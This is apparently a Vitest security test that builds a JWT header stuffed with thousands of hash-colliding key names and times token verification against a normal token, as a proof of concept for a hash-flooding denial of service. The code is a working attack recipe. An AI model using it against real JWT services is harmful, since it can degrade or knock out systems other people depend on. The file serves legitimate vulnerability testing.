import { it } from 'vitest'
import { b64, makeJwt, sign } from './helpers.js'
function fnv(s: string): number { let h = 0x811c9dc5; for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 0x01000193) >>> 0; return h >>> 0 }
it('dos', () => {
  const chars: string[] = []
  for (let c = 0x23; c < 0x7f; c++) if (c !== 0x5c) chars.push(String.fromCharCode(c))
  const names: string[] = []
  const R = 300
  for (const a of chars) for (const b of chars) for (const c of chars) { const n = a + b + c; if ((fnv(n) & 32767) < R) names.push(n) }
  console.log('names', names.length)
  const jwt = makeJwt({ maxTokenLength: 65536 })
  let header = '{"alg":"HS256"'
  for (const n of names) { const add = `,"${n}":0`; if (b64(header + add + '}').length > 65000 - 50) break; header += add }
  header += '}'
  const normal = '{"alg":"HS256","x":"' + 'a'.repeat(header.length - 30) + '"}'
  for (const [label, h] of [['normal', normal], ['collide', header]]) {
    const t = sign('HS256', `${b64(h)}.${b64('{}')}`, 'wrong-secret-wrong-secret')
    const t0 = performance.now(); let n = 0
    for (; n < 20; n++) jwt.verifyToken(t)
    console.log(label, t.length, ((performance.now() - t0) / n).toFixed(3), 'ms per verify')
  }
})
